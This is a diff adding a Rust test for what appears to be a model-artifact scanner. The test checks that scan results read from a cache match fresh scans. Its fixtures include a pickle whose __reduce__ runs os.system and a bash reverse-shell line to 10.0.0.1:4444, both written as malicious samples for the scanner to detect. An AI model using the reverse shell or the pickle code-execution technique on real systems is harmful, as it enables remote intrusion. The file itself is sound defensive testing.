@@ -421,3 +421,76 @@ fn data_class_pickles_pass_and_injected_twins_are_malicious() {
         assert!(rec["findings"].as_array().unwrap().is_empty(), "{rec}");
     }
 }
+
+/// The scan records `pack` signs are the same whether the findings were scanned or taken from
+/// the store's scan cache: packed twice (cold cache, warm cache, then every entry corrupted),
+/// the records are equal, findings in the same order, and only the first and the last pack
+/// scanned.
+#[test]
+fn packed_scan_records_are_the_same_from_the_scan_cache() {
+    let f = Fixture::new();
+    f.sh(r#"python3 - <<'PY'
+import os, pickle
+class R:
+    def __reduce__(self):
+        return (os.system, ("echo pwned",))
+open("models/tiny/evil.pkl", "wb").write(pickle.dumps(R(), protocol=2))
+open("models/tiny/odd.pkl", "wb").write(b"\x80\x02cmymodule\nMyClass\nq\x00)\x81q\x01.")
+open("models/tiny/shell.txt", "w").write("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+PY"#)
+        .ok();
+    let pack = |out: &str| {
+        let r = f
+            .airlock(&[
+                "--json",
+                "pack",
+                "m.yaml",
+                "--key",
+                "keys/signer.key",
+                "--out",
+                out,
+                "--store",
+                "store",
+            ])
+            .ok()
+            .json();
+        let vol = r["volumes"][0]["path"].as_str().unwrap().to_string();
+        let i = f.airlock(&["--json", "inspect", &vol]).ok().json();
+        // The attestation's digest covers the pack time; everything else must be equal.
+        let mut records = i["manifest"]["scan"].as_array().unwrap().clone();
+        for rec in &mut records {
+            rec.as_object_mut().unwrap().remove("attestation");
+        }
+        let counts = (
+            r["scanCache"]["scanned"].as_u64().unwrap(),
+            r["scanCache"]["cached"].as_u64().unwrap(),
+        );
+        (records, counts)
+    };
+    let (cold, cold_counts) = pack("cold");
+    let findings: Vec<&str> = cold
+        .iter()
+        .flat_map(|r| r["findings"].as_array().unwrap())
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    assert!(findings.len() >= 3, "{findings:?}");
+    assert!(
+        findings.contains(&"pickle/denylisted-global"),
+        "{findings:?}"
+    );
+    assert!(findings.contains(&"pickle/unknown-global"), "{findings:?}");
+    // The image layer, the model's files and the file artifact, each scanned once.
+    let units = cold_counts.0;
+    assert!(units >= 8, "{cold_counts:?}");
+    assert_eq!(cold_counts.1, 0);
+
+    let (warm, warm_counts) = pack("warm");
+    assert_eq!(warm_counts, (0, units));
+    assert_eq!(warm, cold);
+
+    f.sh("for e in store/scan-cache/*.json; do printf 'not an entry' > \"$e\"; done")
+        .ok();
+    let (corrupt, corrupt_counts) = pack("corrupt");
+    assert_eq!(corrupt_counts, (units, 0));
+    assert_eq!(corrupt, cold);
+}
